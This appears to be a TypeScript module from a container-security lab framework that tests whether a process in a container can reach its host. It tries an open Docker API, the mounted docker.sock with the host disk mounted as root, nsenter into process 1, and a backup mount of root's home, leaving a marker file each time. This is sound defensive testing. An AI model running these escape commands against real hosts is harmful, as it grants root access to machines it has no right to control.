import { randomBytes } from 'node:crypto'
import { type HostProbe, joined, type Message, msg, type Params, verbatim } from '../../contract/index.ts'
import {
  attemptRun,
  refused,
  succeeded,
  untried,
  type Attacker,
  type Ending,
  type Step,
} from '../shared/attempt.ts'
import { inspectContainer } from '../shared/containers.ts'
import { daemonIdOf } from '../shared/daemon-info.ts'
import { execIn } from '../shared/exec-in.ts'
import { leaveMark } from '../shared/leave-mark.ts'
import { takeOver, type Call } from '../shared/take-over.ts'

export const attempt = {
  title: msg`Go through every door`,
  description: msg`As somebody in a container: through the API, through the socket, through the host’s namespaces and through root’s home, and each time leave a file on master. It is harmless and cleans up after itself.`,
  run: attemptRun('open-doors', attack),
}

async function attack({ lab, params, step }: Attacker): Promise<Ending> {
  const master = lab.host('master')
  const token = () => randomBytes(6).toString('hex')
  for (const name of [params.stranger, params.dashboard, params.monitor, params.backup]) {
    if (!(await inspectContainer(master, name ?? ''))?.State.Running)
      return untried(msg`The container ${name ?? ''} does not run, so there is nowhere to start from.`)
  }
  const place = await placeOf(master, params.stranger)
  if (!place) return untried(msg`The container ${params.stranger ?? ''} has no way to master to start from.`)
  const open: Message[] = []
  if (await throughApi(master, params, place, token(), step)) open.push(msg`the API`)
  if (await throughSocket(master, params, token(), step)) open.push(msg`the socket`)
  if (await throughNamespaces(master, params, token(), step)) open.push(msg`the host’s namespaces`)
  if (await throughHome(master, params, token(), step)) open.push(msg`root’s home`)
  return open.length > 0
    ? succeeded(msg`Somebody in a container got out to master, through ${joined(open)}.`)
    : refused(msg`All four doors are closed: somebody in a container stays in it.`)
}

/** Whose network a container is in, and where master is from there. */
interface Place {
  networkOf: number
  gateway: string
}

async function placeOf(master: HostProbe, name = ''): Promise<Place | undefined> {
  const found = await inspectContainer(master, name)
  const networkOf = found?.State.Pid
  const gateway = Object.values(found?.NetworkSettings.Networks ?? {})[0]?.Gateway
  return networkOf && gateway ? { networkOf, gateway } : undefined
}

async function throughApi(
  master: HostProbe,
  params: Params,
  { networkOf, gateway }: Place,
  token: string,
  step: Step,
): Promise<boolean> {
  const { stranger = '', apiPort } = params
  const identity = await master.daemonIdentity()
  const pid = identity.kind === 'genuine' ? identity.process.pid : -1
  const ofDaemon = (await master.listeners()).filter(({ pids }) => pids.includes(pid)).map(({ port }) => port)
  for (const port of new Set([Number(apiPort), ...ofDaemon])) {
    const call: Call = (request) =>
      master.connect({ timeoutMs: 10_000, ...request, host: gateway, port, networkOf })
    const answer = await call({ path: '/info', timeoutMs: 3000 })
    const served = answer.kind === 'answered' && answer.status === 200 && daemonIdOf(answer.body) !== null
    const got =
      answer.kind === 'answered'
        ? msg`HTTP ${answer.status}: ${verbatim(answer.body.trim().slice(0, 100))}`
        : verbatim(answer.message)
    const tried = msg`As ${stranger}, knock at port ${port} of ${gateway}, which is master`
    step(tried, served ? msg`Docker answers, and asks for nothing in return.` : got, served)
    if (served && (await takeOver(master, call, token, step))) return true
  }
  return false
}

/** Writes its word to a file of root's home. */
const markOf = (token: string) => `/root/bulkhead-was-here-${token}`

async function throughSocket(master: HostProbe, params: Params, token: string, step: Step): Promise<boolean> {
  const { dashboard: container = '' } = params
  const path = markOf(token)
  const command = `docker -H unix:///var/run/docker.sock run --rm --pull never --network none --user 0 -v /:/h bulkhead/shell sh -c 'echo ${token} > /h${path}'`
  const tried = msg`In ${container}, ask for a container that holds master’s whole disk, through /var/run/docker.sock`
  return leaveMark({ master, container, tried, command, path, token }, step)
}

async function throughNamespaces(
  master: HostProbe,
  params: Params,
  token: string,
  step: Step,
): Promise<boolean> {
  const { monitor: container = '', ledger = '', ledgerPort, ledgerKey, namespacesWord = '' } = params
  const path = markOf(token)
  const command = `nsenter -t 1 -m sh -c 'echo ${token} > ${path}'`
  const tried = msg`In ${container}, enter the file system of process 1, and write ${path}`
  const entered = await leaveMark({ master, container, tried, command, path, token }, step)
  const url = `http://127.0.0.1:${ledgerPort}/${ledgerKey}`
  const outcome = await execIn(master, container, { cmd: ['wget', '-T', '3', '-qO-', url] })
  const said = 'refused' in outcome ? outcome.refused : outcome.output
  const told = said.includes(namespacesWord)
  const got = told
    ? msg`It answers: it trusts this machine, and is told the container is part of it.`
    : verbatim(said.trim().slice(0, 160))
  step(msg`In ${container}, ask ${ledger}, which listens on 127.0.0.1 of master only`, got, told)
  return entered || told
}

async function throughHome(master: HostProbe, params: Params, token: string, step: Step): Promise<boolean> {
  const { backup: container = '' } = params
  const path = markOf(token)
  const command = `echo ${token} > /backup/${path.slice('/root/'.length)}`
  const tried = msg`In ${container}, write to /backup, which is root’s home on master`
  return leaveMark({ master, container, tried, command, path, token }, step)
}
